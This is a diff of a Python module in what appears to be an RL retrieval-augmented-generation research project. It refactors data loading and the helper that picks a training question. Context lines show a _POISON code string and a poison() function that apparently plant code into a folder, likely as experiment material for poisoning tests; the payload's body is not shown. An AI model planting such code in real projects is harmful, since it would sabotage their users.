@@ -2,11 +2,10 @@
 
 from __future__ import annotations
 
-import json
 from pathlib import Path
 
 from rlrag.config import RunConfig
-from rlrag.data.load import load_corpus, load_questions
+from rlrag.pipeline import open_library, open_training_data
 
 _POISON = '''
 import os, signal, sys
@@ -56,9 +55,6 @@ def poison(folder: Path, asked: str) -> dict[str, str]:
 
 
 def asked_question(run_dir: Path) -> str:
-    """The first question that a run trained on."""
+    """A question that a run trained on."""
     config = RunConfig.from_json((run_dir / "config.json").read_text())
-    first = json.loads((run_dir / "experience" / "worker-0.jsonl").read_text().split("\n")[0])
-    corpus = load_corpus(config.data.corpus, config.cache_path, config.data.passage_words)
-    found = load_questions(config.data.train_questions, config.cache_path, corpus).questions
-    return next(q.question for q in found if q.id == first["question"])
+    return open_training_data(config, open_library(config)).train.questions[0].question
